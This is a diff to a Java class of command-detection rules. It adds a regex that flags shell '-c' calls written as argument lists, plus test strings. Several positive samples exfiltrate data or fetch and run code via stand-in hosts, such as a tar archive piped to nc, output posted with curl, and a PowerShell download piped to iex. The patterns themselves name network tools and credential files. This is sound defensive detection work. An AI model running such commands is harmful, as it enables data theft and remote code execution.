@@ -72,6 +72,18 @@ final class CommandRules {
                       + "-[a-z]*c[a-z]{0,2}\\s+"
                       + QUOTE
                       + GIVEN)
+              // The same in a list of arguments, as settings full of harmless ones are written.
+              .finds(
+                  "\\b(?:ba|z|da|k|a)?sh"
+                      + QUOTE
+                      + ",\\s*\\[?\\s*"
+                      + QUOTE
+                      + "-[a-z]*c"
+                      + QUOTE
+                      + ",\\s*"
+                      + QUOTE
+                      + "[^\\n]*(?:\\|\\s*(?:nc|ncat|netcat|curl|openssl|(?:ba|z)?sh)\\s|/dev/(?:tcp|udp)/|/tmp/\\.|169\\.254\\.|\\bchmod \\+x|\\bbase64 -d|\\.ssh/|\\.aws/|/etc/shadow)",
+                  300)
               .finds("\\bsu (?:-\\s+|-l\\s+)?(?:[a-z_][a-z0-9_-]*\\s+)?-c\\s+" + QUOTE + GIVEN)
               .finds(
                   "\\bpython[0-9.]*\\s+-c\\s+"
@@ -88,7 +100,7 @@ final class CommandRules {
               .finds("\\bawk\\s+" + QUOTE + "BEGIN\\s*\\{\\s*system\\(")
               .finds("\\bosascript\\s+-e\\s+" + QUOTE + "[^\\n]*\\bdo\\s+shell\\s+script\\b")
               .finds(
-                  "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?\\s[^\\n]*-(?:(?:c|command)\\s+[^\\s<&]|e(?:c|nc|ncodedcommand)?\\s+[\"'\\\\]*[a-z0-9+/=]{8})(?:[^\\n|]*https?://[^\\s\"'|]*)?)")
+                  "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?[ \\t][^\\n]*-(?:(?:c|command)\\s+[^\\s<&]|e(?:c|nc|ncodedcommand)?\\s+[\"'\\\\]*[a-z0-9+/=]{8})(?:[^\\n|]*https?://[^\\s\"'|]*)?)")
               .finds("\\$(?:SHELL|BASH|\\{(?:SHELL|BASH)\\})\\s+-[a-z]*c\\s+" + QUOTE)
               .finds("\\bssh\\s+\\S+@\\S+\\s+" + QUOTE + "\\s*(?:ba|z|da)?sh\\s+-[a-z]*c\\s")
               .finds("\\bscript\\s+-[a-z]*c\\s+" + QUOTE)
@@ -101,6 +113,8 @@ final class CommandRules {
                   "sh -c 'ls /secrets'",
                   "sh -c 'cd /srv && ./install'",
                   "powershell -c \"irm https://h.example/i.ps1 | iex\"",
+                  "[\"sh\", \"-c\", \"tar cf - . | nc 1.2.3.4 9001\"]",
+                  "run(['bash','-c','id | curl -d @- https://h.example'])",
                   "ssh root@h.example 'bash -c id'",
                   "bash -ce 'mount'",
                   "${SHELL} -c \"id\"",
@@ -128,6 +142,8 @@ final class CommandRules {
                   "powershell -enc <BASE64> is a sign of it",
                   "PowerShell logs commands started with -EncodedCommand after decoding them",
                   "bash script.sh -c",
+                  "[\"sh\", \"-c\", \"npm ci && npm test\"]",
+                  "['sh', '-c', 'until nslookup db; do sleep 2; done']",
                   "flash -c \"x\"",
                   "push -c 'x'",
                   "./build.sh -c 'release'",
